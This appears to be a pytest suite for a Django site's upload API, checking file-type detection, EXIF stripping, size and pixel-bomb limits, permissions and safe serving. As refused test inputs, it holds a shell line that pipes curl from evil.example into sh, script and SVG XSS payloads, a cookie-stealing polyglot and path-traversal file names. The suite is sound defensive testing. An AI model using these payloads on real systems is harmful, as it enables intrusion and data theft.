import io
import uuid
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import TemporaryFileUploadHandler
from django.http.multipartparser import MultiPartParser
from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart
from PIL import Image

from content_app.media import MAX_UPLOAD_BYTES
from content_app.models import MediaFile
from content_app.tests import files
from portfolio.api.uploads import LimitedUploadHandler, UploadTooLargeError
from portfolio.testing import assert_error_envelope, bearer

pytestmark = pytest.mark.django_db

UPLOAD = "/api/v1/upload"


def upload(client, user, name, data, content_type="application/octet-stream", url=UPLOAD):
    headers = bearer(user) if user else {}
    return client.post(url, {"file": SimpleUploadedFile(name, data, content_type)}, **headers)


def stored_files(settings):
    root = Path(settings.MEDIA_ROOT)
    return sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file())


def open_image(client, url):
    response = client.get(url)
    assert response.status_code == 200
    return Image.open(io.BytesIO(b"".join(response.streaming_content)))


# --- What is accepted ---------------------------------------------------------


def test_a_png_is_stored_under_a_random_name_and_described(client, editor_user, settings):
    response = upload(client, editor_user, "My Photo.png", files.png((64, 48)), "image/png")
    assert response.status_code == 201, response.content
    body = response.json()
    assert body["message"] == "File uploaded."
    data = body["data"]
    media = MediaFile.objects.get(pk=data["id"])
    assert data["filename"] == media.filename
    assert data["filename"] != "My Photo.png"
    assert len(data["filename"]) == len("0123456789abcdef0123456789abcdef.png")
    assert data["original_name"] == "My Photo.png"
    assert data["url"] == f"http://testserver/api/v1/media/{data['filename']}"
    assert data["content_type"] == "image/png"
    assert (data["width"], data["height"]) == (64, 48)
    assert data["size"] == media.size > 0
    assert media.uploaded_by == editor_user
    assert stored_files(settings) == sorted(
        [f"uploads/{data['filename']}", f"uploads/{media.thumbnail_filename}"]
    )


def test_the_served_file_has_its_real_type_and_nosniff(client, editor_user):
    data = upload(client, editor_user, "a.png", files.png()).json()["data"]
    response = client.get(f"/api/v1/media/{data['filename']}")
    assert response.status_code == 200
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "immutable" in response["Cache-Control"]
    assert b"".join(response.streaming_content).startswith(b"\x89PNG")


def test_the_type_comes_from_the_content_not_the_name(client, editor_user):
    response = upload(client, editor_user, "holiday.pdf", files.jpeg(), "application/pdf")
    assert response.status_code == 201
    data = response.json()["data"]
    assert data["content_type"] == "image/jpeg"
    assert data["filename"].endswith(".jpg")


def test_jpeg_exif_is_stripped_and_its_orientation_applied(client, editor_user):
    exif = files.exif_with_camera_and_gps()
    data = upload(client, editor_user, "p.jpg", files.jpeg((64, 48), exif=exif)).json()["data"]
    # Orientation 6 means the camera held it sideways: stored upright, 48 x 64.
    assert (data["width"], data["height"]) == (48, 64)
    image = open_image(client, data["url"])
    assert len(image.getexif()) == 0
    assert "exif" not in image.info


def test_png_exif_is_stripped_too(client, editor_user):
    exif = files.exif_with_camera_and_gps()
    data = upload(client, editor_user, "p.png", files.png(exif=exif)).json()["data"]
    image = open_image(client, data["url"])
    assert len(image.getexif()) == 0


def test_large_images_are_downscaled_to_2560_with_a_400_thumbnail(client, editor_user):
    data = upload(client, editor_user, "wide.png", files.png((3000, 1500))).json()["data"]
    assert (data["width"], data["height"]) == (2560, 1280)
    assert open_image(client, data["url"]).size == (2560, 1280)
    assert open_image(client, data["thumbnail_url"]).size == (400, 200)


def test_a_pdf_is_accepted_and_served_as_pdf(client, editor_user):
    document = files.pdf()
    response = upload(client, editor_user, "cv.pdf", document, "application/pdf")
    assert response.status_code == 201
    data = response.json()["data"]
    assert data["content_type"] == "application/pdf"
    assert data["thumbnail_url"] == ""
    assert data["width"] is None
    served = client.get(f"/api/v1/media/{data['filename']}")
    assert served["Content-Type"] == "application/pdf"
    assert served["X-Content-Type-Options"] == "nosniff"
    # A user's PDF may also be HTML: downloaded, sandboxed, never run in our origin.
    assert served["Content-Disposition"].startswith("attachment;")
    assert served["Content-Security-Policy"] == "sandbox"
    assert b"".join(served.streaming_content) == document


def test_an_image_is_shown_inline_but_sandboxed(client, editor_user):
    data = upload(client, editor_user, "a.png", files.png()).json()["data"]
    served = client.get(f"/api/v1/media/{data['filename']}")
    assert served["Content-Disposition"].startswith("inline;")
    assert served["Content-Security-Policy"] == "sandbox"
    thumbnail = client.get(data["thumbnail_url"])
    assert thumbnail["Content-Security-Policy"] == "sandbox"


def test_an_image_with_data_appended_is_stored_without_it(client, editor_user, settings):
    polyglot = files.png() + b"<script>alert(document.cookie)</script>"
    data = upload(client, editor_user, "x.png", polyglot).json()["data"]
    stored = (Path(settings.MEDIA_ROOT) / "uploads" / data["filename"]).read_bytes()
    assert b"<script>" not in stored


def test_a_palette_png_with_transparency_keeps_its_alpha(client, editor_user):
    image = Image.new("P", (10, 10), 0)
    image.info["transparency"] = 0
    out = io.BytesIO()
    image.save(out, format="PNG", transparency=0)
    data = upload(client, editor_user, "t.png", out.getvalue()).json()["data"]
    assert open_image(client, data["url"]).mode == "RGBA"


def test_the_seed_004_upload_path_works_the_same(client, editor_user):
    response = upload(client, editor_user, "a.png", files.png(), url="/api/upload")
    assert response.status_code == 201
    filename = response.json()["data"]["filename"]
    served = client.get(f"/api/media/{filename}")
    assert served.status_code == 200
    assert served["X-Content-Type-Options"] == "nosniff"


# --- Who may upload -----------------------------------------------------------


def test_anonymous_upload_answers_401_and_stores_nothing(client, settings, db):
    response = upload(client, None, "a.png", files.png())
    assert response.status_code == 401
    assert response.json()["success"] is False
    assert MediaFile.objects.count() == 0
    assert stored_files(settings) == []


def test_a_signed_in_user_without_the_media_permission_answers_403(client, member_user, settings):
    response = upload(client, member_user, "a.png", files.png())
    assert response.status_code == 403
    assert MediaFile.objects.count() == 0
    assert stored_files(settings) == []


def test_staff_may_upload_without_any_model_permission(client, staff_user):
    assert upload(client, staff_user, "a.png", files.png()).status_code == 201


def test_upload_without_a_file_answers_400(client, editor_user):
    response = client.post(UPLOAD, {"other": "x"}, **bearer(editor_user))
    assert response.status_code == 400
    assert "file" in response.json()["details"]


def test_an_empty_file_answers_400(client, editor_user):
    response = upload(client, editor_user, "empty.png", b"")
    assert response.status_code == 400


def test_upload_as_json_answers_415(client, editor_user):
    response = client.post(
        UPLOAD, {"file": "x"}, content_type="application/json", **bearer(editor_user)
    )
    assert response.status_code == 415
    assert response.json()["success"] is False


def test_upload_only_accepts_post(client, editor_user):
    assert client.get(UPLOAD, **bearer(editor_user)).status_code == 405


# --- Hostile uploads ----------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("shell.png", b"#!/bin/sh\ncurl http://evil.example | sh\n"),
        ("page.png", b"<html><script>alert(1)</script></html>"),
        ("logo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("anim.png", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
        ("tool.pdf", b"MZ\x90\x00\x03\x00\x00\x00 an executable"),
    ],
)
def test_anything_but_jpeg_png_or_pdf_answers_415_whatever_its_name(
    client, editor_user, settings, name, content
):
    response = upload(client, editor_user, name, content, "image/png")
    assert_error_envelope(response, 415, "Only JPEG, PNG and PDF files are accepted.")
    assert stored_files(settings) == []
    assert MediaFile.objects.count() == 0


def test_a_real_gif_is_refused_even_though_pillow_could_read_it(client, editor_user):
    out = io.BytesIO()
    Image.new("RGB", (4, 4)).save(out, format="GIF")
    assert upload(client, editor_user, "a.gif", out.getvalue()).status_code == 415


def test_a_truncated_png_answers_400(client, editor_user, settings):
    data = files.noisy_png()
    response = upload(client, editor_user, "cut.png", data[: len(data) // 2])
    assert response.status_code == 400
    assert response.json()["error"] == "The image is damaged or incomplete."
    assert stored_files(settings) == []


def test_a_png_with_a_bad_checksum_answers_400(client, editor_user):
    data = bytearray(files.noisy_png())
    data[200] ^= 0xFF  # inside the pixel data: the chunk's CRC no longer matches
    assert upload(client, editor_user, "bad.png", bytes(data)).status_code == 400


@pytest.mark.parametrize("size", [(30_000, 30_000), (10_000, 10_000)])
def test_a_pixel_bomb_is_refused_before_decoding(client, editor_user, settings, size):
    # 900 megapixels is past Pillow's hard limit; 100 megapixels is in its warning
    # band, which is refused as well.
    bomb = files.pixel_bomb(*size)
    assert len(bomb) < 200
    response = upload(client, editor_user, "bomb.png", bomb)
    assert response.status_code == 413
    assert "too many pixels" in response.json()["error"]
    assert stored_files(settings) == []


def test_a_pdf_whose_xref_pointer_is_broken_answers_400(client, editor_user, settings):
    response = upload(client, editor_user, "cv.pdf", files.pdf_with_wrong_startxref())
    assert response.status_code == 400
    assert response.json()["error"] == "The PDF is damaged or cannot be read."
    assert stored_files(settings) == []


def test_a_pdf_whose_xref_offsets_are_wrong_answers_400(client, editor_user):
    # pypdf would silently repair this one; we refuse it.
    response = upload(client, editor_user, "cv.pdf", files.pdf_with_shifted_xref_offsets())
    assert response.status_code == 400


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\n<script>alert(1)</script>",
        files.pdf()[:600],
        b"%PDF-1.4\n%%EOF\n",
    ],
    ids=["only-a-header", "truncated", "empty-body"],
)
def test_something_that_only_looks_like_a_pdf_answers_400(client, editor_user, content):
    assert upload(client, editor_user, "cv.pdf", content).status_code == 400


def test_a_file_over_5_mb_answers_413_while_it_is_received(client, editor_user, settings):
    # Just over the limit: the declared length passes the up-front check (it leaves
    # room for the multipart envelope), so the streaming handler is what stops it.
    data = b"\x89PNG\r\n\x1a\n" + b"\0" * (MAX_UPLOAD_BYTES - 7)
    response = upload(client, editor_user, "big.png", data)
    assert_error_envelope(
        response, 413, "The file is larger than 5 MB.", details={"max_bytes": MAX_UPLOAD_BYTES}
    )
    assert stored_files(settings) == []
    assert MediaFile.objects.count() == 0


def test_a_body_declared_over_the_limit_answers_413_before_it_is_read(client, editor_user):
    response = upload(client, editor_user, "big.pdf", b"%PDF-" + b"0" * (6 * 1024 * 1024))
    assert response.status_code == 413


def test_a_file_of_exactly_5_mb_is_not_refused_for_its_size(client, editor_user):
    data = b"%PDF-" + b"0" * (MAX_UPLOAD_BYTES - 5)
    response = upload(client, editor_user, "max.pdf", data)
    # Refused as a broken PDF, not as too large.
    assert response.status_code == 400


def test_the_size_limit_stops_reading_the_body_early():
    class CountingStream(io.BytesIO):
        consumed = 0

        def read(self, size=-1):
            chunk = super().read(size)
            self.consumed += len(chunk)
            return chunk

    body = encode_multipart(BOUNDARY, {"file": SimpleUploadedFile("a.png", b"\0" * (20 << 20))})
    stream = CountingStream(body)
    meta = {"CONTENT_TYPE": MULTIPART_CONTENT, "CONTENT_LENGTH": str(len(body))}
    handlers = [LimitedUploadHandler(max_bytes=1 << 20), TemporaryFileUploadHandler()]
    with pytest.raises(UploadTooLargeError):
        MultiPartParser(meta, stream, handlers, "utf-8").parse()
    assert stream.consumed < 2 << 20  # about 1 MB of the 20 MB were read


@pytest.mark.parametrize(
    "name",
    ["../../../../etc/cron.d/evil.png", "..\\..\\windows\\evil.png", "/etc/passwd", "....//x.png"],
)
def test_path_traversal_names_never_reach_storage(client, editor_user, settings, tmp_path, name):
    response = upload(client, editor_user, name, files.png())
    assert response.status_code == 201
    data = response.json()["data"]
    assert "/" not in data["original_name"]
    assert "\\" not in data["original_name"]
    assert not data["original_name"].startswith(".")
    assert all(path.startswith("uploads/") for path in stored_files(settings))
    # Nothing was written anywhere else under the test's temporary directory.
    outside = [p for p in tmp_path.rglob("*") if p.is_file() and "media" not in p.parts]
    assert outside == []


# --- Serving ------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/media/..%2F..%2Fportfolio%2Fsettings.py",
        "/api/v1/media/%2e%2e%2fsettings.py",
        "/api/v1/media/..",
        "/api/v1/media/settings.py",
        "/api/v1/media/0123456789abcdef0123456789abcdef.png",
        "/api/v1/media/.gitkeep",
    ],
)
def test_unknown_or_traversing_media_names_answer_404_in_the_envelope(client, db, path):
    response = client.get(path)
    assert response.status_code == 404
    assert response["Content-Type"] == "application/json"
    assert response.json()["success"] is False


def test_a_file_missing_from_storage_answers_404(client, editor_user, settings):
    data = upload(client, editor_user, "a.png", files.png()).json()["data"]
    (Path(settings.MEDIA_ROOT) / "uploads" / data["filename"]).unlink()
    response = client.get(f"/api/v1/media/{data['filename']}")
    assert response.status_code == 404
    assert response.json()["success"] is False


def test_media_is_served_whatever_the_client_accepts(client, editor_user):
    data = upload(client, editor_user, "a.png", files.png()).json()["data"]
    response = client.get(f"/api/v1/media/{data['filename']}", HTTP_ACCEPT="image/avif,image/webp")
    assert response.status_code == 200


# --- Deleting -----------------------------------------------------------------


def test_deleting_media_removes_the_row_and_its_files(
    client, editor_user, admin_user, settings, django_capture_on_commit_callbacks
):
    data = upload(client, editor_user, "a.png", files.png()).json()["data"]
    assert len(stored_files(settings)) == 2
    with django_capture_on_commit_callbacks(execute=True):
        response = client.delete(f"/api/v1/admin/media/{data['id']}", **bearer(admin_user))
    assert response.status_code == 204
    assert response.content == b""
    assert not MediaFile.objects.filter(pk=data["id"]).exists()
    assert stored_files(settings) == []
    assert client.get(f"/api/v1/media/{data['filename']}").status_code == 404


def test_seed_004_media_delete_path(
    client, editor_user, admin_user, django_capture_on_commit_callbacks
):
    data = upload(client, editor_user, "a.png", files.png()).json()["data"]
    with django_capture_on_commit_callbacks(execute=True):
        response = client.delete(f"/api/admin/media/{data['id']}", **bearer(admin_user))
    assert response.status_code == 204
    assert MediaFile.objects.count() == 0


def test_deleting_unknown_media_answers_404(client, admin_user):
    response = client.delete(f"/api/v1/admin/media/{uuid.uuid4()}", **bearer(admin_user))
    assert response.status_code == 404
    assert response.json()["success"] is False


def test_a_project_keeps_working_when_its_image_is_deleted(
    client, seeded, editor_user, admin_user, django_capture_on_commit_callbacks
):
    from content_app.models import Project

    media = upload(client, editor_user, "a.png", files.png()).json()["data"]
    Project.objects.filter(slug="mini-game").update(image_id=media["id"])
    with django_capture_on_commit_callbacks(execute=True):
        client.delete(f"/api/v1/admin/media/{media['id']}", **bearer(admin_user))
    project = client.get("/api/v1/projects/mini-game").json()["data"]
    assert project["image_url"] == ""


# --- Bounded by pixels (issue 23) -----------------------------------------------------


def test_pillows_bomb_limit_is_the_pixel_setting():
    from PIL import Image

    assert Image.MAX_IMAGE_PIXELS == 40_000_000


@pytest.mark.parametrize("size", [(6325, 6325), (9400, 9400), (40_001, 1000)])
def test_an_image_over_the_pixel_limit_is_a_413_read_from_its_header(
    client, editor_user, settings, size
):
    # The header claims the size; there are no pixels behind it, so anything that
    # decoded would answer "damaged", not 413.
    response = upload(client, editor_user, "big.png", files.pixel_bomb(*size))
    assert response.status_code == 413
    assert response.json()["details"] == {"max_pixels": 40_000_000}
    assert response.json()["error"] == (
        "The image has too many pixels to be processed safely (at most 40,000,000)."
    )
    assert stored_files(settings) == []


def test_the_pixel_limit_is_a_setting(client, editor_user, settings):
    settings.MEDIA_IMAGE_MAX_PIXELS = 64 * 48 - 1
    assert upload(client, editor_user, "a.png", files.png((64, 48))).status_code == 413
    settings.MEDIA_IMAGE_MAX_PIXELS = 64 * 48
    assert upload(client, editor_user, "a.png", files.png((64, 48))).status_code == 201


def test_a_large_jpeg_is_decoded_already_scaled_down(client, editor_user):
    response = upload(client, editor_user, "wide.jpg", files.jpeg((6000, 4000)))
    assert response.status_code == 201
    assert (response.json()["data"]["width"], response.json()["data"]["height"]) == (2560, 1707)


# --- In the request's language ------------------------------------------------------


def upload_in(client, user, language, data):
    headers = {**bearer(user), "HTTP_ACCEPT_LANGUAGE": language}
    file = SimpleUploadedFile("a.png", data, "application/octet-stream")
    return client.post(UPLOAD, {"file": file}, **headers)


@pytest.mark.parametrize(
    ("language", "stored", "refused", "bomb"),
    [
        ("es-ES,es;q=0.9", "Archivo subido.", "Solo se aceptan archivos JPEG, PNG y PDF.",
         "La imagen tiene demasiados píxeles para procesarla con seguridad "
         "(como máximo 40\xa0000\xa0000)."),
        ("en-GB,en;q=0.9", "File uploaded.", "Only JPEG, PNG and PDF files are accepted.",
         "The image has too many pixels to be processed safely (at most 40,000,000)."),
    ],
)  # fmt: skip
def test_an_upload_is_answered_in_the_requests_language(
    client, editor_user, language, stored, refused, bomb
):
    assert upload_in(client, editor_user, language, files.png()).json()["message"] == stored
    assert_error_envelope(upload_in(client, editor_user, language, b"GIF89a;"), 415, refused)
    too_big = upload_in(client, editor_user, language, files.pixel_bomb(9400, 9400))
    assert (too_big.status_code, too_big.json()["error"]) == (413, bomb)


@pytest.mark.parametrize(
    ("lang", "expected"), [("es", "No existe ese archivo."), ("en", "No such file.")]
)
def test_a_missing_file_is_told_in_the_requests_language(client, db, lang, expected):
    response = client.get(f"/api/v1/media/0123456789abcdef0123456789abcdef.png?lang={lang}")
    assert_error_envelope(response, 404, expected)
